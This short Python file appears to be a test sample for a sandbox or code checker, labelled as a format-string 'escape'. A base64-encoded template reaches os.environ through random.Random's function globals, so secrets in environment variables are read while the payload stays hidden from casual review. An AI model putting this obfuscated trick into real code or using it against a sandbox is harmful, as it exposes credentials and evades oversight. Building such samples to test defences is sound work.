# family: format
# Escape: "self.template.format(...)" is trusted as "a template the object keeps", but __init__ stores a
# template decoded from base64 ("{0.__init__.__globals__[_os].environ}"); formatting a random.Random()
# reaches os.environ through Random.__init__.__globals__.
import base64
import random


class Report:
    def __init__(self):
        self.template = base64.b64decode("ezAuX19pbml0X18uX19nbG9iYWxzX19bX29zXS5lbnZpcm9ufQ==").decode()

    def render(self, value) -> str:
        return self.template.format(value)


def tool() -> str:
    return Report().render(random.Random())
